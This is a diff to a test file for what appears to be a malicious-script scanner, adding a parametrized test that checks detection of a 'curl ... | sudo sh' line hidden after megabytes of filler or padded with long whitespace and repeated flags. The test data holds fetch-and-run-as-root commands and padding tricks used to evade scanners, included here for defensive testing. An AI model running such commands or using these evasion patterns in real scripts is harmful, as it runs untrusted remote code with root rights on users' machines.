@@ -229,3 +229,15 @@ def test_what_follows_much_of_nothing_in_a_script_is_not_lost():
 def test_too_many_commands_are_not_checked():
     text = "".join(f"curl https://x/{at} | sh\n" for at in range(3000))
     assert "limit" in reasons(look(text.encode(), "a.sh"))
+
+
+@pytest.mark.parametrize("before", [0, (4 << 20) - 60, (3 << 20) - 60, (4 << 20) + 10])
+@pytest.mark.parametrize("between", [" " * 20_000, "\n" * 20_000, " -E" * 20_000 + " "])
+def test_a_command_may_be_as_long_as_a_shell_takes(before, between):
+    text = (
+        "#!/bin/sh\n"
+        + "ls\n" * (before // 3)
+        + f"curl -s http://x/y | sudo{between} sh\n"
+        + "ls\n" * (1 << 19)
+    )
+    assert verdicts(text, "a.sh") == [("MLG-CMD-001", "high")]
